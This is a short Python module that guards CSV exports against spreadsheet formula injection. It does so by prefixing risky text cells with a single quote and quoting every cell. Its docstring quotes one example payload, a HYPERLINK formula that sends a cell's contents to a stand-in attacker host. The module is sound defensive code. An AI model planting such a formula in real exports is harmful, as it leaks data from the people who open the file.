"""CSV downloads that a spreadsheet opens as data, never as formulas (OWASP "CSV Injection").

A username, a request id or a corrected value is typed by someone else; opened in Excel or
LibreOffice, a cell such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` would run. Every
export goes through `to_csv`, which writes each text cell that starts with one of the formula
characters behind a single quote (the spreadsheet shows it as text) and quotes every cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet cell: None empty, text that could start a formula quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value  # numbers (a negative one included) are data in every spreadsheet


def to_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A header of `columns`, then one line per row (missing keys empty)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([safe_cell(row.get(column)) for column in columns])
    return buffer.getvalue()
